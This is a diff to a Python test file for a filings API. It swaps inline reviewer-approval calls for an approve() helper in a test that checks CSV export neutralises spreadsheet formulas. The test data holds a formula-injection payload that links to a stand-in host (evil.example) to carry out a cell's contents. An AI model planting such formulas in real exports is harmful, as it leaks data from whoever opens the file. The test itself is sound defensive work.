@@ -19,7 +19,7 @@ from pathlib import Path
 
 import pytest
 import queue_standin
-from api_support import Api, make_api, scan_png, seed_filing
+from api_support import Api, approve, make_api, scan_png, seed_filing
 from builders import GOOD_ID, declaration, household_register
 from PIL import Image
 from uvicorn.logging import AccessFormatter
@@ -185,13 +185,7 @@ def test_csv_cells_that_start_like_formulas_are_inert(tmp_path: Path) -> None:
     api = make_api(tmp_path)
     payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     filing_id = seed_filing(api, [declaration(reason=payload, employer="@SUM(1+1)"), household_register()])
-    r = api.client.get(f"/v1/filings/{filing_id}", headers=api.as_("reviewer"))
-    r = api.client.post(
-        f"/v1/filings/{filing_id}/decision",
-        json={"action": "approve"},
-        headers={**api.as_("reviewer"), "If-Match": r.headers["ETag"]},
-    )
-    assert r.status_code == 200, r.text
+    approve(api, filing_id)
     r = api.client.get("/v1/export/filings", params={"format": "csv"}, headers=api.as_("integration"))
     [row] = [row for row in csv.DictReader(io.StringIO(r.text)) if row["filing_id"] == filing_id]
     assert row["reason"] == "'" + payload and row["employer"] == "'@SUM(1+1)"
